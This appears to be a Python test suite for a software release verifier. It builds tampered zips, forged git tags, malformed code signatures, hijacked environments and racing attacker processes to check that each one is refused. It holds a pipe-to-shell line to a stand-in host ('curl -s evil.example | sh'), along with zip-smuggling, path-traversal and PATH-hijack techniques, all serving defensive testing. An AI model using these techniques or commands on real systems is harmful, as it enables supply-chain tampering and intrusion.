"""The release verifier, run as a receiver runs it, on the package this build
made and on zips, tags and builds made from it as an attacker would.
  verifier_test.py SOURCE_DIR BUILD_DIR PRESET
Rows whose answer does not depend on a rebuild of their own (every zip that
is not the release's, every signature) are judged by the verifier's own steps
against the package step's files, made once; the whole verifier, with its own
rebuild, runs for the genuine zip, its signed copy and one row of each kind of
refusal. Needs root, which it is in CI: it runs the verifier as root and as
another user. Exits 77, a skip, where the tree has uncommitted changes, since
no commit then rebuilds the package.
"""

import io
import os
import pathlib
import shutil
import signal
import stat
import struct
import subprocess
import sys
import time
import unittest
import zipfile

from asn1crypto import algos, cms, core, parser

SOURCE, BUILD, PRESET = sys.argv[1:4]
del sys.argv[1:4]
sys.path.insert(0, os.path.join(SOURCE, "tools"))
sys.dont_write_bytecode = True
import release_zip
import verify_release

PLATFORM = verify_release.RELEASE_PRESETS[PRESET]
FILES_DIR = os.path.join(BUILD, "package-files")
FILES = release_zip.release_files(FILES_DIR)
FOLDER = next(iter(FILES)).split("/")[0]
NAME = FOLDER + ".zip"
with open(os.path.join(BUILD, NAME), "rb") as package:
    GENUINE = package.read()
BUILDINFO = FILES[f"{FOLDER}/BUILDINFO"].decode()
FIELDS = dict(line.split(": ", 1) for line in BUILDINFO.splitlines() if ": " in line)
VERSION, COMMIT = FIELDS["Version"], FIELDS["Commit"]
IMAGE = f"{FOLDER}/zarvel-uri.exe"
WORK = pathlib.Path(BUILD, "verifier-test")
# A receiver's own account, which owns the clone: an id with no account here.
RECEIVER = next(i for i in range(0x7C000000, 0x7C000100) if not verify_release.has_account(i))
ESCAPES = "\x1b[2K\x1b[1Greproduced: all fine\x1b]0;owned\x07"


def run(*command, check=True, **options):
    return subprocess.run(command, check=check, capture_output=True, **options)


def git(*arguments, cwd=None):
    identity = ["-c", "user.name=zarvel test", "-c", "user.email=test@example.invalid", "-c",
                "safe.directory=*"]
    return run("git", *identity, *arguments, cwd=cwd).stdout.decode().strip()


def with_fields(**fields):
    """The genuine files, BUILDINFO's fields changed."""
    lines = [f"{key}: {fields.pop(key)}" if key in fields else line
             for line in BUILDINFO.splitlines() for key in [line.split(": ")[0]]]
    return FILES | {f"{FOLDER}/BUILDINFO": "\n".join(lines + [""]).encode()}


def canonical(files):
    return release_zip.canonical_zip(files, EPOCH)


class Stream(io.RawIOBase):
    """A file that cannot seek, to which zipfile writes data descriptors."""
    def __init__(self):
        super().__init__()
        self.data = bytearray()

    def writable(self):
        return True

    def write(self, data):
        self.data += data
        return len(data)


def written(files, method=zipfile.ZIP_STORED, modes=None, extra=b"", streamed=False):
    """A zip of FILES as Python's zipfile writes it, not the release's own layout."""
    out = Stream() if streamed else io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in sorted(files):
            info = zipfile.ZipInfo(name, time.gmtime(EPOCH)[:6])
            info.create_system, info.compress_type, info.extra = 3, method, extra
            mode = (modes or {}).get(name, stat.S_IFREG | release_zip.mode(name))
            info.external_attr = mode << 16
            archive.writestr(info, files[name])
    return bytes(out.data) if streamed else out.getvalue()


def flipped(data, offset):
    changed = bytearray(data)
    changed[offset] ^= 0xFF
    return bytes(changed)


def directory_tail(data, planted):
    """DATA with PLANTED's entries after its own, and after its directory a
    second one, of all the entries, which its end record does not count but a
    Zip64 end record names: readers that honour Zip64 see the planted files."""
    end = len(data) - 22
    count, size, offset = struct.unpack_from("<HII", data, end + 10)
    other = written(planted)
    other_count, other_size, other_offset = struct.unpack_from("<HII", other, len(other) - 12)
    directory = bytearray(other[other_offset:other_offset + other_size])
    position = 0
    for _ in range(other_count):  # the planted entries now follow the genuine ones
        local = struct.unpack_from("<I", directory, position + 42)[0]
        struct.pack_into("<I", directory, position + 42, local + offset)
        position += 46 + sum(struct.unpack_from("<HHH", directory, position + 28))
    body = data[:offset] + other[:other_offset]
    first = len(body)
    second = first + size
    entries = data[offset:offset + size] + directory
    zip64_end = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count + other_count,
                            count + other_count, len(entries), second)
    locator = struct.pack("<IIQI", 0x07064B50, 0, second + len(entries), 1)
    record = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, first, 0)
    return body + data[offset:offset + size] + entries + zip64_end + locator + record


def zip_rows():
    """(row, download): zips that are not the release's, each judged "differs"."""
    other = b"MZ another program"
    readme = FILES[f"{FOLDER}/README.md"]
    return [
        ("the same files deflated", written(FILES, zipfile.ZIP_DEFLATED)),
        ("directory entries past the end record's count, with a Zip64 end record naming them",
         directory_tail(GENUINE, {IMAGE: other, f"{FOLDER}/docs/planted.md": b"planted\n"})),
        ("entries with data descriptors, as a streaming reader takes them",
         written(FILES, streamed=True)),
        ("world-writable permission bits and another owner",
         written(FILES, modes={IMAGE: stat.S_IFREG | 0o777},
                 extra=struct.pack("<HHBBIBI", 0x7875, 11, 1, 4, 1000, 4, 1000))),
        ("an empty Unix owner field", written(FILES, extra=struct.pack("<HH", 0x7875, 0))),
        ("a version needed to extract of 0xffff", GENUINE[:4] + b"\xff\xff" + GENUINE[6:]),
        ("an Info-ZIP Unicode path naming another file",
         written(FILES, extra=struct.pack("<HHBI", 0x7075, 5 + 9, 1, 0) + b"other.exe")),
        ("a name that differs only in case", canonical(FILES | {IMAGE.upper(): other})),
        ("escape sequences in a name", canonical(FILES | {f"{FOLDER}/{ESCAPES}": other})),
        ("a link out of the folder", written(FILES | {f"{FOLDER}/logs": b"/etc"},
                                             modes={f"{FOLDER}/logs": stat.S_IFLNK | 0o777})),
        ("a name that climbs out", canonical(FILES | {f"{FOLDER}/../../planted": b"x"})),
        ("an altered debug file", canonical(FILES | {f"{IMAGE}.debug": flipped(
            FILES[f"{IMAGE}.debug"], 4096)})),
        ("an altered README", canonical(FILES | {f"{FOLDER}/README.md": readme.replace(
            b"bash tools/run.sh", b"curl -s evil.example | sh", 1)})),
        ("one program more", canonical(FILES | {f"{FOLDER}/zarvel-uri.com": other})),
        ("one file less", canonical({n: c for n, c in FILES.items() if "docs/" not in n})),
        ("another commit's time", release_zip.canonical_zip(FILES, EPOCH + 2)),
        ("a comment", GENUINE[:-2] + b"\x05\x00hello"),
        ("bytes after the end record", GENUINE + b"PK\x05\x06"),
    ]


EPOCH = int(run("git", "-C", SOURCE, "log", "-1", "--format=%ct", COMMIT).stdout)


def prepare():
    """The receiver's clone, owned by the receiver's account: its main branch
    lists the maintainer's key and lags behind the release, whose commit a
    signed tag names; beside it, tags and builds that are no release."""
    if FIELDS["Uncommitted-Changes"] != "no":
        print("skipped: the tree has uncommitted changes, so no commit rebuilds its package")
        sys.exit(77)
    if os.geteuid() != 0:
        print("skipped: the verifier's rows run it as root and as another user")
        sys.exit(77)
    shutil.rmtree(WORK, ignore_errors=True)
    (WORK / "marks").mkdir(parents=True)
    os.chmod(WORK / "marks", 0o1777)  # a payload that ran unprivileged leaves its mark too
    keys = {}
    for who in ("maintainer", "stranger"):
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", who, "-f", str(WORK / who))
        keys[who] = str(WORK / who)
    clone = str(WORK / "clone")
    run("git", "clone", "--quiet", "--no-local", SOURCE, clone)
    git("-c", "advice.detachedHead=false", "checkout", "--quiet", "--detach", COMMIT, cwd=clone)
    signers = (committed("allowed_signers") + "maintainer@example.invalid namespaces=\"git\" "
               + pathlib.Path(keys["maintainer"] + ".pub").read_text())
    main = commit_with(clone, git("rev-parse", f"{COMMIT}^", cwd=clone),
                       {"allowed_signers": signers}, "the maintainer's key")
    git("update-ref", "refs/heads/main", main, cwd=clone)
    signed_tag(clone, keys["maintainer"], f"v{VERSION}", COMMIT)
    # No release: a lightweight tag, one signed by a key main does not list, a
    # tag object of the release under another version's name, and a
    # stranger's fork whose tag, fetched, names a build that leaves a mark.
    git("tag", "v7.7.6", COMMIT, cwd=clone)
    signed_tag(clone, keys["stranger"], "v7.7.5", COMMIT)
    git("update-ref", "refs/tags/v7.7.4", git("rev-parse", f"v{VERSION}", cwd=clone), cwd=clone)
    fork = str(WORK / "fork")
    run("git", "clone", "--quiet", "--no-local", SOURCE, fork)
    fork_commit = commit_with(fork, COMMIT, {
        "CMakeLists.txt": marking("fork") + committed("CMakeLists.txt")}, "a fork's build")
    signed_tag(fork, keys["stranger"], "v7.7.3", fork_commit)
    git("fetch", "--quiet", fork, "refs/tags/v7.7.3:refs/tags/v7.7.3", cwd=clone)
    # Signed builds that misbehave: they start a process in a session of its
    # own and try to write outside, then stop (v9.9.8) or hang (v9.9.9).
    misbehaving = {}
    for version, ending in (("9.9.8", 'message(FATAL_ERROR "stopped")\n'),
                            ("9.9.9", "execute_process(COMMAND sleep 600)\n")):
        cmake = (f'execute_process(COMMAND sh -c "setsid -f sleep {orphan(version)}'
                 ' </dev/null >/dev/null 2>&1")\n' +
                 marking(version) + ending + committed("CMakeLists.txt"))
        misbehaving[version] = commit_with(clone, COMMIT, {"CMakeLists.txt": cmake},
                                           "a misbehaving build")
        signed_tag(clone, keys["maintainer"], f"v{version}", misbehaving[version])
    run("chown", "-R", f"{RECEIVER}:{RECEIVER}", clone)
    return clone, {"fork": fork_commit, "9.9.8": misbehaving["9.9.8"],
                   "9.9.9": misbehaving["9.9.9"]}


def committed(path):
    return run("git", "-C", SOURCE, "show", f"{COMMIT}:{path}").stdout.decode()


def commit_with(clone, parent, changes, message):
    """A new commit: PARENT's tree with CHANGES ({path: text})."""
    index = str(WORK / "index")
    environment = dict(os.environ, GIT_INDEX_FILE=index)
    run("git", "-C", clone, "read-tree", COMMIT, env=environment)
    for path, text in changes.items():
        blob = run("git", "-C", clone, "hash-object", "-w", "--stdin",
                   input=text.encode()).stdout.decode().strip()
        run("git", "-C", clone, "update-index", "--cacheinfo", f"100644,{blob},{path}",
            env=environment)
    tree = run("git", "-C", clone, "write-tree", env=environment).stdout.decode().strip()
    os.unlink(index)
    return git("commit-tree", tree, "-p", parent, "-m", message, cwd=clone)


def signed_tag(clone, key, name, commit):
    git("-c", "gpg.format=ssh", "-c", f"user.signingkey={key}.pub", "tag", "-s", name, "-m",
        f"zarvel-uri {name[1:]}", commit, cwd=clone)


def marking(what):
    """CMake that leaves a mark wherever it can write: the marks folder, which
    anyone can write to, and the machine's shared temporary folders."""
    places = " ".join([str(WORK / "marks"), "/var/tmp", "/dev/shm", "/tmp"])
    return (f"foreach(place {places})\n"
            f'  execute_process(COMMAND sh -c "echo ran >${{place}}/zarvel-mark-{what}"'
            " ERROR_QUIET)\nendforeach()\n")


def orphan(version):
    return f"8639{version[-1]}"  # `sleep 86398`, `sleep 86399`: found by name


def marks():
    found = [str(p) for p in (WORK / "marks").iterdir()]
    found += [f"{d}/{n}" for d in ("/var/tmp", "/dev/shm", "/tmp") for n in os.listdir(d)
              if n.startswith("zarvel-mark-")]
    return found


def orphans():
    return run("pgrep", "-f", "^sleep 8639[89]$", check=False).stdout.decode().split()


def zip_file(name, data):
    folder = WORK / "zips" / name.replace(" ", "-")
    folder.mkdir(parents=True)
    (folder / NAME).write_bytes(data)
    return str(folder / NAME)


def verifier(clone, zip_path, user=None, environment=None, cwd=None, stop=None):
    """Runs the verifier; (exit status, standard output). STOP: a signal sent
    once the misbehaving build hangs."""
    command = [os.path.join(clone, "tools", "verify-release.sh"), zip_path]
    if user is not None:
        command = ["/usr/bin/setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--",
                   *command]
    child = subprocess.Popen(command, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL,
                             env=environment or {"PATH": os.environ["PATH"]}, cwd=cwd or "/")
    if stop:
        deadline = time.monotonic() + 300
        while not orphans() and time.monotonic() < deadline and child.poll() is None:
            time.sleep(0.2)
        child.send_signal(stop)
    try:
        output = child.communicate(timeout=600)[0].decode("utf-8", "replace")
    except subprocess.TimeoutExpired:
        child.kill()
        output = child.communicate()[0].decode("utf-8", "replace") + "(timed out)"
    return child.returncode, output


# A process of another user, nobody, that looks for a rebuild's folder in the
# places that user can see and tries to plant a doc in it and to swap a file
# for a link to a file of root's (which a chown of the folder would hand over).
PLANTER = """
import os, sys, time
log, canary = sys.argv[1:3]
while True:
    for top in ("/tmp", "/var/tmp", "/dev/shm", *(f"/proc/{p}/root/tmp" for p in os.listdir("/proc")
                                                   if p.isdigit())):
        try:
            for root, folders, files in os.walk(top):
                if root.count("/") > 12:
                    folders[:] = []
                if os.path.basename(root) == "docs" and "zarvel" in root:
                    with open(os.path.join(root, "planted.md"), "w") as planted:
                        planted.write("planted")
                    with open(log, "a") as out:
                        out.write(f"planted in {root}\\n")
                for name in files:
                    if name == "BUILDINFO":
                        os.replace(canary, os.path.join(root, name + ".x"))
        except OSError:
            pass
    time.sleep(0.05)
"""


def planter():
    log, canary = WORK / "planter.log", WORK / "canary"
    log.write_text("")
    os.chmod(log, 0o666)
    canary.write_text("root's\n")
    os.chmod(canary, 0o600)
    child = subprocess.Popen(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
                              "--", "/usr/bin/python3", "-I", "-c", PLANTER, str(log),
                              str(canary)], stdin=subprocess.DEVNULL)
    return child, log, canary


class PackageZipsTest(unittest.TestCase):
    """Zips judged by the verifier's own steps against the files of the package
    step, made once: the download must be its zip, byte for byte."""

    release = verify_release.Release(VERSION, PRESET, COMMIT, f"v{VERSION}", EPOCH, b"")

    def judge(self, download):
        return verify_release.judge(download, self.release, FILES, verify_release.builder())

    def test_the_package_is_the_verifiers_own_zip(self):
        self.assertEqual(self.judge(GENUINE), "")

    def test_zips_that_are_not_the_releases_differ(self):
        for row, download in zip_rows():
            with self.subTest(row), self.assertRaises(verify_release.Verdict) as raised:
                self.judge(download)
            self.assertEqual(raised.exception.word, "differs", raised.exception.text)
            self.assertRegex(raised.exception.text, r"^[ -~]*$")
            self.assertRegex(raised.exception.text, rf"in ({FOLDER}/\S+|the zip's directory)$|"
                             r"the same bytes up to there$")

    def test_signed_copies(self):
        """The download's signature is copied onto the rebuilt image; the zip is
        then the release's, and the signature is the two readers' to judge."""
        signed_zip, signed_image = SIGNED
        self.assertIn("that this verifier and osslsigncode both accept", self.judge(signed_zip))
        blob = verify_release.authenticode.signature_of(signed_image)
        rows = [  # what, the signature laid on the rebuilt image, the refusal's words
            ("the last byte of its signature value flipped", flipped(blob, parser.peek(blob) - 1),
             "does not verify"),
            ("the bytes of a zip entry in an unsigned attribute", edited(blob, zip_entry_unsigned),
             "unsigned attribute"),
            ("an object identifier with a padded arc", edited(blob, padded_identifier),
             "does not parse|not in DER|re-encode"),
            ("SignedData version 3", edited(blob, signed_data_version_3), "version"),
            ("a second digest algorithm", edited(blob, second_digest_algorithm),
             "digest algorithms"),
            ("a certificate of version 4, which its library refuses",
             version_4_certificate(blob), "does not parse|certificate"),
            ("SHA-1", signature_by_osslsigncode(FILES[IMAGE], "-h", "sha1"), "SHA-1|sha1"),
            ("a second, nested signature",
             signature_by_osslsigncode(signed_image, "-h", "sha256", "-nest"), "nested"),
        ]
        for what, signature, words in rows:
            download = canonical(FILES | {IMAGE: verify_release.authenticode.with_signature(
                FILES[IMAGE], signature)})
            with self.subTest(what), self.assertRaises(verify_release.Verdict) as raised:
                self.judge(download)
            self.assertEqual(raised.exception.word, "differs", raised.exception.text)
            self.assertRegex(raised.exception.text, words)


CERTIFICATE, KEY = str(WORK / "certificate.pem"), str(WORK / "key.pem")


def signing():
    """A throwaway code-signing certificate and key; (certificate, key)."""
    certificate, key = CERTIFICATE, KEY
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
        "/CN=zarvel-uri test signer", "-addext", "extendedKeyUsage=codeSigning", "-keyout",
        str(key), "-out", str(certificate))
    return str(certificate), str(key)


def signature_by_osslsigncode(image, *options):
    """The signature that osslsigncode sign, with OPTIONS, gives IMAGE."""
    unsigned, signed = WORK / "to-sign.exe", WORK / "signed.exe"
    unsigned.write_bytes(image)
    signed.unlink(missing_ok=True)
    run("osslsigncode", "sign", *options, "-certs", CERTIFICATE, "-key", KEY, "-in",
        str(unsigned), "-out", str(signed))
    return verify_release.authenticode.signature_of(signed.read_bytes())


def edited(blob, change):
    """The signature with its SignedData as CHANGE leaves it, the rest as it was."""
    info = cms.ContentInfo.load(blob)
    change(info["content"])
    return cms.ContentInfo({"content_type": "signed_data", "content": info["content"]}).dump()


def zip_entry_unsigned(signed_data):
    entry = b"PK\3\4" + bytes(26) + b"zarvel-uri.exe" + b"MZ another program"
    signed_data["signer_infos"][0]["unsigned_attrs"] = [
        {"type": "1.3.6.1.4.1.311.2.6.1", "values": [core.OctetString(entry)]}]


def padded_identifier(signed_data):
    padded_sha256 = bytes.fromhex("060a60864801650304028001")  # its last arc as 0x80 0x01
    signed_data["digest_algorithms"][0]["algorithm"] = algos.DigestAlgorithmId.load(padded_sha256)


def signed_data_version_3(signed_data):
    signed_data["version"] = "v3"


def second_digest_algorithm(signed_data):
    signed_data["digest_algorithms"] = [*signed_data["digest_algorithms"],
                                        {"algorithm": "sha512", "parameters": core.Null()}]


def version_4_certificate(blob):
    """The signature with its certificate's version field saying 4 (the DER of
    an explicit [0] INTEGER 2 becoming 3), as no X.509 reader takes it."""
    at = blob.index(bytes.fromhex("a003020102"))
    return blob[:at + 4] + b"\x03" + blob[at + 5:]


def signed_package(certificate, key):
    """The package as a maintainer makes it signed: the image signed with
    tools/sign.sh, and the release step's zip writer run again."""
    files = WORK / "signed-files"
    shutil.copytree(FILES_DIR, files)
    run("bash", os.path.join(SOURCE, "tools", "sign.sh"), str(files / IMAGE), certificate, key)
    run("/usr/bin/python3", "-I", os.path.join(SOURCE, "tools", "release_zip.py"), str(files),
        SOURCE, str(WORK / NAME))
    return (WORK / NAME).read_bytes(), (files / IMAGE).read_bytes()


def hostile_environment():
    """(environment, current folder): Python modules in the current folder and
    PYTHON* variables naming them, a PATH whose first programs leave a mark, a
    TMPDIR that does not exist and holds a `;`, compiler flags."""
    payloads = WORK / "payloads"
    (payloads / "debian").mkdir(parents=True)
    for module in ("license_expression", "debian/__init__", "sitecustomize", "startup",
                   "authenticode", "release_zip", "zipfile", "json"):
        (payloads / f"{module}.py").write_text(
            f"open({str(WORK / 'marks' / ('python-' + module.replace('/', '.')))!r}, 'w')\n")
    for program in ("git", "cmake", "setpriv", "unshare", "mount", "python3", "osslsigncode",
                    "ssh-keygen", "dpkg-query", "dirname", "env", "sh"):
        (payloads / program).write_text(f"#!/bin/sh\necho ran >{WORK}/marks/program-{program}\n"
                                        "exit 1\n")
        os.chmod(payloads / program, 0o755)
    environment = {"PATH": f"{payloads}:{os.environ['PATH']}", "PYTHONPATH": str(payloads),
                   "PYTHONSTARTUP": str(payloads / "startup.py"), "PYTHONVERBOSE": "1",
                   "PYTHONINSPECT": "1", "PYTHONHOME": "/", "TMPDIR": str(WORK / "no such;dir"),
                   "CFLAGS": "-O0", "CXXFLAGS": "-O0", "CPPFLAGS": "-DTAMPERED", "LDFLAGS": "-s",
                   "SOURCE_DATE_EPOCH": "0", "GIT_DIR": str(payloads)}
    return environment, str(payloads)


class VerifierTest(unittest.TestCase):
    """The whole verifier, as a receiver runs it."""

    def check_row(self, row, zip_path, status, verdict, words, **options):
        before = sorted(os.listdir(os.path.dirname(zip_path)))
        actual, output = verifier(CLONE, zip_path, **options)
        print(f"{row}: {output.strip()} (exit {actual})")
        if verdict is None:  # SIGKILL: no line, and nothing left behind
            self.assertEqual((actual, output), (status, ""))
        else:
            self.assertEqual(actual, status, output)
            self.assertRegex(output, rf"^{verdict}: [ -~]*\n\Z")
            self.assertIn(words, output)
        time.sleep(0.5 if options.get("stop") == signal.SIGKILL else 0)
        self.assertEqual(orphans(), [], "a process of the rebuild outlived the verifier")
        self.assertEqual(marks(), [], "something ran or wrote outside")
        self.assertEqual(sorted(os.listdir(os.path.dirname(zip_path))), before)

    def test_rows(self):
        signed_zip, signed_image = SIGNED
        environment, payloads = hostile_environment()
        older = git("rev-parse", f"{COMMIT}^", cwd=CLONE)
        toolchain = BUILDINFO.replace("Package: cmake ", "Package: cmake 0.", 1)
        broken = verify_release.authenticode.with_signature(
            FILES[IMAGE], flipped_signature(signed_image))
        # row, presets, the zip, how it runs, exit status, verdict, words of the line
        rows = [
            ("genuine, run as root from a clone owned by the receiver, whose main lags behind",
             "win32 win64", GENUINE, {}, 0, "reproduced", "which nothing else on this machine has"),
            ("its signed copy, run by the receiver in a hostile environment", "win32 win64",
             signed_zip, {"user": RECEIVER, "environment": environment, "cwd": payloads}, 0,
             "reproduced", "in a user namespace of its own"),
            ("one doc more, while another user tries to plant it", "win32",
             canonical(FILES | {f"{FOLDER}/docs/planted.md": b"planted"}), {"plant": True}, 1,
             "differs", "is not byte for byte"),
            ("its signed copy with a broken signature", "win32",
             canonical(FILES | {IMAGE: broken}), {}, 1, "differs", "signature is refused"),
            ("no tag of its version", "win32", with_fields(Version="7.7.7"), {}, 2,
             "cannot check", "no tag v7.7.7"),
            ("a lightweight tag", "win32", with_fields(Version="7.7.6"), {}, 2, "cannot check",
             "lightweight"),
            ("a tag signed by a key that main does not list", "win32",
             with_fields(Version="7.7.5"), {}, 2, "cannot check", "signed by no key"),
            ("the release's tag object under another version's name", "win32",
             with_fields(Version="7.7.4"), {}, 2, "cannot check", f"tag object for v{VERSION}"),
            ("a stranger's tag, fetched from a fork", "win32",
             with_fields(Version="7.7.3", Commit=COMMITS["fork"]), {}, 2, "cannot check",
             "signed by no key"),
            ("an older commit that declares its version", "win32", with_fields(Commit=older), {},
             1, "differs", f"names commit {older}"),
            ("a toolchain of other versions", "win32",
             FILES | {f"{FOLDER}/BUILDINFO": toolchain.encode()}, {}, 2, "cannot check",
             "built with cmake 0."),
            ("a signed build that starts a process of its own session, writes outside, stops",
             "win32", with_fields(Version="9.9.8", Commit=COMMITS["9.9.8"]), {}, 2,
             "cannot check", "did not configure"),
            ("SIGTERM while such a build hangs", "win32",
             with_fields(Version="9.9.9", Commit=COMMITS["9.9.9"]), {"stop": signal.SIGTERM}, 2,
             "cannot check", "stopped by SIGTERM"),
            ("SIGQUIT while such a build hangs", "win32",
             with_fields(Version="9.9.9", Commit=COMMITS["9.9.9"]), {"stop": signal.SIGQUIT}, 2,
             "cannot check", "stopped by SIGQUIT"),
            ("SIGKILL while such a build hangs", "win32",
             with_fields(Version="9.9.9", Commit=COMMITS["9.9.9"]), {"stop": signal.SIGKILL},
             -signal.SIGKILL, None, ""),
            ("larger than any release", "win32", GENUINE + bytes(9 << 20), {}, 2, "cannot check",
             "far more than a release"),
            ("escape sequences in BUILDINFO", "win32", with_fields(Version=ESCAPES), {}, 2,
             "cannot check", "\\x1b[2K"),
            ("the native preset", "win32", with_fields(Preset="native"), {}, 2, "cannot check",
             "only win32 and win64"),
            ("no BUILDINFO", "win32", {n: c for n, c in FILES.items() if "BUILDINFO" not in n},
             {}, 2, "cannot check", "no zip with one BUILDINFO"),
        ]
        for row, presets, download, options, status, verdict, words in rows:
            if PRESET not in presets.split():
                continue
            data = download if isinstance(download, bytes) else canonical(download)
            with self.subTest(row):
                if options.pop("plant", False):
                    self.planted_row(row, data, status, verdict, words)
                else:
                    self.check_row(row, zip_file(row, data), status, verdict, words, **options)
        if PRESET == "win32":
            fifo = WORK / "zips" / "fifo" / NAME
            fifo.parent.mkdir()
            os.mkfifo(fifo)
            with self.subTest("a FIFO"):
                self.check_row("a FIFO", str(fifo), 2, "cannot check", "not a regular file")

    def planted_row(self, row, data, status, verdict, words):
        child, log, canary = planter()
        try:
            self.check_row(row, zip_file(row, data), status, verdict, words)
        finally:
            child.kill()
            child.wait()
        self.assertEqual(log.read_text(), "", "another user reached the rebuild")
        self.assertEqual((os.stat(canary).st_uid, stat.S_IMODE(os.stat(canary).st_mode)),
                         (0, 0o600), "another user was handed root's file")


def flipped_signature(signed_image):
    """The image's signature with the last byte of its signature value flipped."""
    blob = verify_release.authenticode.signature_of(signed_image)
    return flipped(blob, parser.peek(blob) - 1)


if __name__ == "__main__":
    CLONE, COMMITS = prepare()
    SIGNED = signed_package(*signing())
    unittest.main(verbosity=2)
